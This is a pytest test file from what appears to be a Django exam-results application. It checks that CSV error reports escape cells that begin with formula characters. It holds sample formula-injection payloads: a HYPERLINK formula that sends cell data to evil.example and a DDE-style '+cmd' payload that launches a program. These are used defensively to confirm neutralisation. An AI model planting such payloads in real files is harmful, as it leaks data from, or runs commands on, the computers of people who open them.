"""The error report of a refused results file echoes what the file held; a cell such as a
personal number ``=HYPERLINK(...)`` must never run as a formula when NAEC opens the report."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from kari.exams.services.results import error_report_csv
from kari.tabular import RowError
from kari.tasks.models import FileJob
from kari.tasks.worker import run_pending
from tests.conftest import sign_in
from tests.exams.test_exams_results import _csv, _headers, _rows, sat  # noqa: F401

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _table(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_no_cell_of_the_error_report_starts_a_formula():
    errors = [
        RowError(3, "personal_number", "Nobody was invited.", personal_number=ATTACK, check=True),
        RowError(4, "@SUM(A1:A9)", "+cmd|' /C calc'!A0", personal_number="-2+3"),
    ]
    table = _table(error_report_csv(errors))
    cells = [c for row in table[1:] for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    # the values are kept, readable, behind an apostrophe
    assert table[1][:3] == ["cross-check", "'" + ATTACK, "3"]
    assert table[2] == ["row", "'-2+3", "4", "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0"]


@pytest.mark.django_db
def test_a_formula_typed_as_a_personal_number_comes_back_neutralised(sat, client):  # noqa: F811
    sign_in(client, sat["naec"])
    url = f"/exams/results/?round={sat['round'].pk}"
    rows = _rows(sat)
    rows.append([ATTACK, "absent", ""] + ["" for _ in sat["subjects"]])  # not invited
    upload = SimpleUploadedFile("r.csv", _csv(_headers(sat), rows), content_type="text/csv")
    client.post(url, {"file": upload})
    run_pending()
    job = FileJob.objects.get()
    report = client.get(url + f"&report=1&job={job.pk}")
    assert report.status_code == 200
    table = _table(report.content)
    assert [r[1] for r in table[1:] if "HYPERLINK" in r[1]] == ["'" + ATTACK]
    assert not [c for r in table[1:] for c in r if c.startswith(FORMULA_START)]
